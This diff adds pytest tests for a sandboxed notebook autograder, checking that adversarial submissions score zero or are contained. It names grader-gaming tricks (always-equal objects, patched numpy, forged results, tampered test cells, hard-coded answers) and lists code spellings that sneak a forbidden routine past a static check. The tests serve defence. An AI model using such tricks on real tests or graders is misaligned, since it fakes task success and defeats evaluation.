+    return "\n".join(parts)
+
+
+def problems_of(graded, student):
+    return [p["problem"] for p in graded["problems"] if p["student_id"] == student]
+
+
+# --------------------------------------------------------------------------------------
+# no collateral damage
+
+def test_batch_exits_zero_and_grades_everyone(graded):
+    assert graded["proc"].returncode == 0, graded["proc"].stderr[-3000:]
+    for student, aid in graded["attacks"].items():
+        assert (student, aid) in graded["scores"], student
+        assert not any(p.startswith("not graded") for p in problems_of(graded, student)), student
+
+
+def test_victim_keeps_full_marks(graded):
+    assert score(graded, VICTIM) == total(A0) == 1
+    assert problems_of(graded, VICTIM) == []
+    text = feedback(graded, VICTIM)
+    assert "HiddenTestFailure" not in text and "TestCellModified" not in text
+
+
+def test_repository_files_unchanged(graded):
+    before, after = graded["repo_before"], graded["repo_after"]
+    assert sorted(set(after) - set(before)) == []
+    assert sorted(set(before) - set(after)) == []
+    assert [k for k in before if before[k] != after[k]] == []
+    assert graded["numpy_init"][0] == graded["numpy_init"][1]
+    assert not (graded["site"] / "sitecustomize.py").exists()
+    assert not list(graded["site"].glob(f"pwned-{TOKEN}*"))
+
+
+def test_submissions_folder_unchanged(graded):
+    assert graded["sub_after"] == graded["sub_before"]
+
+
+def test_gradebook_and_grades_csv_intact(graded):
+    from nbgrader.api import Gradebook
+    db = graded["out"] / "gradebook.db"
+    with sqlite3.connect(db) as con:
+        assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
+        assert con.execute("SELECT count(*) FROM grade WHERE manual_score IS NOT NULL OR "
+                           "extra_credit IS NOT NULL").fetchone()[0] == 0
+        assert con.execute("SELECT max(max_score) FROM grade_cells").fetchone()[0] <= 3
+    with Gradebook(f"sqlite:///{db}") as gb:
+        assert {s.id for s in gb.students} == set(graded["attacks"])
+        for student, aid in graded["attacks"].items():
+            sub = gb.find_submission(aid, student)
+            assert float(sub.max_score) == total(aid)
+            assert 0 <= float(sub.score) <= float(sub.max_score)
+            assert float(sub.score) == score(graded, student, aid)
+            assert not sub.needs_manual_grade, student
+    for row in graded["rows"]:
+        assert float(row["max_score"]) == total(row["assignment"])
+        assert 0 <= float(row["score"]) <= float(row["max_score"])
+        if (row["student_id"], row["assignment"]) not in graded["attacks"].items():
+            assert float(row["score"]) == 0  # nbgrader lists assignments not submitted as 0
+
+
+def test_no_sandbox_process_outlives_the_batch(graded):
+    left = []
+    for proc in Path("/proc").iterdir():
+        try:
+            if str(graded["out"]).encode() in (proc / "cmdline").read_bytes():
+                left.append(proc.name)
+        except OSError:
+            continue
+    assert left == []
+
+
+# --------------------------------------------------------------------------------------
+# the attacks
+
+def test_sql_on_the_gradebook_fails(graded):
+    assert score(graded, "sql") == 0
+    ran = outputs(graded, "sql")
+    assert "SQL-FAILED" in ran and "SQL-WROTE" not in ran
+
+
+def test_solutions_and_other_students_cannot_be_read(graded):
+    assert score(graded, "read-solutions") == 0
+    ran = outputs(graded, "read-solutions")
+    assert "READ-DENIED" in ran and "NO-REFERENCE" in ran
+    for line in SOLUTION_LINES + [VICTIM_MARK]:
+        assert line not in ran, line
+        assert line not in feedback(graded, "read-solutions"), line
+
+
+def test_files_elsewhere_on_the_host_cannot_be_read(graded):
+    assert "HOST-FILES-DONE" in outputs(graded, "host-files")
+    assert PLANTED not in outputs(graded, "host-files")
+    assert PLANTED not in feedback(graded, "host-files")
+
+
+def test_always_equal_objects_score_zero(graded):
+    assert score(graded, "always-equal") == 0
+
+
+def test_patched_numpy_scores_zero(graded):
+    assert score(graded, "patch-numpy") == 0
+    assert "PATCHED-NUMPY" in outputs(graded, "patch-numpy")
+    assert "HiddenTestFailure" in feedback(graded, "patch-numpy")
+
+
+def test_fake_harness_scores_zero(graded):
+    assert score(graded, "fake-harness") == 0
+    assert "FAKE-HARNESS-INSTALLED" in outputs(graded, "fake-harness")
+
+
+def test_hard_coded_visible_answers_score_zero(graded):
+    assert score(graded, "hard-coded") == 0
+    assert "HiddenTestFailure: sliding_windows: hidden case" in feedback(graded, "hard-coded")
+
+
+def test_allowed_numpy_routines_are_not_mistaken_for_forbidden_ones(graded):
+    assert score(graded, "stride-tricks") == 1
+
+
+def test_warnings_and_noise_cost_nothing(graded):
+    assert score(graded, "noisy") == 1
+    assert "stdout line" in outputs(graded, "noisy")
+
+
+def test_endless_cell_after_the_tests_keeps_the_points(graded):
+    assert score(graded, "loop-after") == 1
+    assert "KeyboardInterrupt" in outputs(graded, "loop-after")   # stopped at the cell limit
+
+
+def test_endless_graded_function_scores_zero_within_the_limits(graded):
+    # an endless loop that swallows the interrupt, inside the harvest of the hidden cases
+    assert score(graded, "loop-inside") == 0
+    assert "CellTimeoutError" in feedback(graded, "loop-inside")
+
+
+def test_cells_stopped_at_the_time_limit_are_reported(graded):
+    assert any("time limit" in p for p in problems_of(graded, "loop-after"))
+    assert any("time limit" in p for p in problems_of(graded, "loop-inside"))
+
+
+def test_fork_bomb_is_stopped_by_the_process_limit(graded):
+    assert score(graded, "fork-bomb") == 1
+    match = re.search(r"FORKS (\d+) STOPPED (\w+)", outputs(graded, "fork-bomb"))
+    assert match, outputs(graded, "fork-bomb")[-2000:]
+    assert match.group(2) != "None" and int(match.group(1)) < Limits.processes
+
+
+def test_huge_file_is_stopped_by_the_file_size_limit(graded):
+    assert score(graded, "huge-file") == 1
+    assert "HUGE-STOPPED" in outputs(graded, "huge-file")
+    big = list((graded["out"] / ".sandbox" / "huge-file").rglob("huge.bin"))
+    assert big and all(p.stat().st_size <= Limits.file_bytes for p in big)
+
+
+def test_sys_exit_after_the_tests_keeps_the_points(graded):
+    assert score(graded, "sys-exit") == 1
+
+
+def test_os_exit_after_the_tests_keeps_the_points(graded):
+    assert score(graded, "os-exit") == 1
+    assert any("did not run to the end" in p for p in problems_of(graded, "os-exit"))
+
+
+def test_environment_of_the_grader_is_not_visible(graded):
+    assert score(graded, "secret") == 0
+    ran = outputs(graded, "secret")
+    assert "ENV" in ran
+    assert SECRET not in ran and SECRET not in feedback(graded, "secret")
+    for student in graded["attacks"]:
+        assert SECRET not in (graded["out"] / "autograded" / student).joinpath(
+            graded["attacks"][student], f"{graded['attacks'][student]}.ipynb").read_text()
+
+
+def test_nothing_is_written_outside_the_working_folder(graded):
+    assert score(graded, "write-outside") == 0
+    ran = outputs(graded, "write-outside")
+    assert "WRITE-DENIED" in ran
+    pwned = f"pwned*{TOKEN}*"
+    for folder in [REPO, REPO / "notebooks", REPO / "grader", REPO / "solutions" / A0, REPO / "data",
+                   graded["site"], Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")]:
+        assert not list(folder.glob(pwned)), folder
+    assert not list(graded["root"].rglob(pwned))   # OUT, the submissions, even the sandboxes' folders
+    assert not (REPO / "grader" / f"pwned_{TOKEN}.py").exists()
+    assert not (REPO / "notebooks" / f"{pwned}.txt").exists()
+    assert (graded["out"] / "feedback" / VICTIM).is_dir()
+    assert "pwned" not in (graded["out"] / "grades.csv").read_text()
+
+
+def test_tampered_test_cell_scores_zero_without_manual_grading(graded):
+    assert score(graded, "test-cell-pass") == 0
+    assert "TestCellModified" in feedback(graded, "test-cell-pass")
+
+
+def test_deleted_and_retyped_test_cells_score_zero_the_rest_counts(graded):
+    s = "test-cells-tampered"
+    assert cell_score(graded, s, A2, "test_correlate2d") == 0
+    assert cell_score(graded, s, A2, "test_convolve2d") == 0
+    assert cell_score(graded, s, A2, "test_gaussian_kernel") == submissions.points(A2)["gaussian_kernel"]
+    assert score(graded, s, A2) == submissions.points(A2)["gaussian_kernel"]
+    from nbgrader.api import Gradebook
+    with Gradebook(f"sqlite:///{graded['out'] / 'gradebook.db'}") as gb:
+        assert not gb.find_submission(A2, s).needs_manual_grade
+        assert not gb.find_submission(A0, "test-cell-pass").needs_manual_grade
+
+
+def test_renamed_function_scores_zero(graded):
+    assert score(graded, "renamed") == 0
+
+
+def test_no_network_from_the_sandbox(graded):
+    assert score(graded, "network") == 0
+    ran = outputs(graded, "network")
+    assert "NETWORK-DONE" in ran and "CONNECTED" not in ran.replace("NO-CONNECTION", "")
+    assert "UDP-SENT" not in ran
+    assert graded["listener"].connections == []
+
+
+def test_memory_bomb_raises_memory_error_and_the_points_stay(graded):
+    assert score(graded, "memory-bomb") == 1
+    ran = outputs(graded, "memory-bomb")
+    assert "MEMORYERROR-BIG" in ran and "MEMORYERROR-GRADUAL" in ran
+
+
+def test_forged_result_files_score_zero(graded):
+    assert score(graded, "forged-results") == 0
+    assert "FORGED" in outputs(graded, "forged-results")
+
+
+def test_results_recomputed_after_the_harvest_score_zero(graded):
+    assert "FORGED-COMPUTED" in outputs(graded, "forged-computed")
+    assert score(graded, "forged-computed") == 0
+
+
+def test_results_linked_to_another_students_score_zero(graded):
+    assert "RESULTS-LINKED" in outputs(graded, "zz-steal-results")
+    assert score(graded, "zz-steal-results") == 0
+
+
+def test_killing_every_process_only_ends_its_own_sandbox(graded):
+    assert score(graded, "killer") <= 1
+    assert "did not run to the end (no notebook came back" in feedback(graded, "killer")
+    assert score(graded, VICTIM) == 1
+
+
+def test_a_killed_sandbox_is_reported(graded):
+    assert any("did not run to the end" in p for p in problems_of(graded, "killer"))
+
+
+def test_forged_metadata_earns_nothing(graded):
+    assert score(graded, "metadata") == 0
+    from nbgrader.api import Gradebook
+    with Gradebook(f"sqlite:///{graded['out'] / 'gradebook.db'}") as gb:
+        assert float(gb.find_submission(A0, "metadata").max_score) == 1
+
+
+def test_forbidden_routines_are_caught(graded):
+    for student in ("forbid-direct", "forbid-getattr"):
+        assert cell_score(graded, student, A1, "test_conv1d") == 0, student
+        assert cell_score(graded, student, A1, "test_correlate1d") == 0, student
+        assert score(graded, student, A1) == 0, student  # the whole notebook: see notebook 00's rules
+        assert "must not call ready-made convolution routines" in feedback(graded, student, A1)
+
+
+def test_forbidden_routine_bound_as_default_argument_is_caught(graded):
+    assert cell_score(graded, "forbid-bypass", A1, "test_conv1d") == 0
+
+
+def test_forbidden_routine_with_tripwires_switched_off_is_caught(graded):
+    assert cell_score(graded, "forbid-bypass", A1, "test_correlate1d") == 0
+
+
+def test_forbidden_routine_used_to_forge_results_is_caught(graded):
+    assert "FORGED-COMPUTED" in outputs(graded, "forbid-forged", A1)
+    assert cell_score(graded, "forbid-forged", A1, "test_conv1d") == 0
+
+
+def test_feedback_never_shows_instructor_files(graded):
+    # (the solution's own loop line is in every solved notebook: checked for the blank ones)
+    blank = {"sql", "read-solutions", "secret", "write-outside", "network", "host-files"}
+    for student, aid in graded["attacks"].items():
+        text = feedback(graded, student, aid)
+        lines = SOLUTION_LINES if student in blank else SOLUTION_LINES[1:]
+        for line in lines + ([VICTIM_MARK] if student != VICTIM else []):
+            assert line not in text, (student, line)
+
+
+def test_runtime_budget(graded):
+    # the whole class within the notebook limits (plus the batch's fixed cost)
+    assert graded["elapsed"] < 600, graded["elapsed"]
+
+
+def test_grading_the_same_class_twice_gives_the_same_grades(graded, regraded):
+    pairs = [(s, graded["attacks"][s]) for s in TWICE]
+    first, second = cell_grades(graded["out"], pairs), cell_grades(regraded["out"], pairs)
+    assert first and first == second
+    assert regraded["problems"] == sorted((p["student_id"], p["assignment"], p["problem"])
+                                          for p in graded["problems"] if p["student_id"] in TWICE)
+
+
+# --------------------------------------------------------------------------------------
+# the static check alone (no grading): ways to spell a forbidden routine in the student's
+# code. Every one is refused, wherever it stands in the notebook.
+
+CAUGHT = {
+    "direct": "def conv1d(x, k, mode='full'):\n    return np.convolve(x, k, mode=mode)",
+    "alias": "_c = np.convolve\ndef conv1d(x, k, mode='full'):\n    return _c(x, k, mode=mode)",
+    "getattr": "def conv1d(x, k, mode='full'):\n    return getattr(np, 'con' + 'volve')(x, k, mode=mode)",
+    "getattr alias": "_c = getattr(np, 'con' + 'volve')\ndef conv1d(x, k, mode='full'):\n    return _c(x, k, mode=mode)",
+    "tuple alias": "_c, _d = np.convolve, 1\ndef conv1d(x, k, mode='full'):\n    return _c(x, k, mode=mode)",
+    "scipy": "from scipy import signal\ndef conv1d(x, k, mode='full'):\n    return signal.convolve(x, k, mode=mode)",
+}
+HIDDEN_SPELLINGS = {
+    "assignment": "conv1d = np.convolve",
+    "lambda": "_c = np.convolve\nconv1d = lambda x, k, mode='full': _c(x, k, mode=mode)",
+    "default argument": "def conv1d(x, k, mode='full', _c=np.convolve):\n    return _c(x, k, mode=mode)",
+    "star import": "from numpy import *\ndef conv1d(x, k, mode='full'):\n    return convolve(x, k, mode=mode)",
+    "numpy submodule": ("from numpy._core.numeric import convolve as _c\n"
+                        "def conv1d(x, k, mode='full'):\n    return _c(x, k, mode=mode)"),
+    "module __dict__": ("_c = np.__dict__['con' + 'volve']\n"
+                        "def conv1d(x, k, mode='full'):\n    return _c(x, k, mode=mode)"),
+    "decorator": "@(lambda f: np.convolve)\ndef conv1d(x, k, mode='full'):\n    pass",
+    "closure": ("def _make(c):\n    def inner(x, k, mode='full'):\n        return c(x, k, mode=mode)\n"
+                "    return inner\nconv1d = _make(np.convolve)"),
+    "for binding": "for _c in [np.convolve]:\n    pass\ndef conv1d(x, k, mode='full'):\n    return _c(x, k, mode=mode)",
+    "walrus": "if (_c := np.convolve):\n    pass\ndef conv1d(x, k, mode='full'):\n    return _c(x, k, mode=mode)",
+    "class attribute": ("class _K:\n    c = staticmethod(np.convolve)\n"
+                        "def conv1d(x, k, mode='full'):\n    return _K.c(x, k, mode=mode)"),
+    "try block": ("try:\n    _c = np.convolve\nexcept Exception:\n    pass\n"
+                  "def conv1d(x, k, mode='full'):\n    return _c(x, k, mode=mode)"),
+}
+
+
+@pytest.mark.parametrize("source", list({**CAUGHT, **HIDDEN_SPELLINGS}.values()),
+                         ids=list({**CAUGHT, **HIDDEN_SPELLINGS}))
+def test_static_check_sees_forbidden_routines(source):
+    from grader.static_check import student_code_findings
+    assert student_code_findings(["import numpy as np", source])
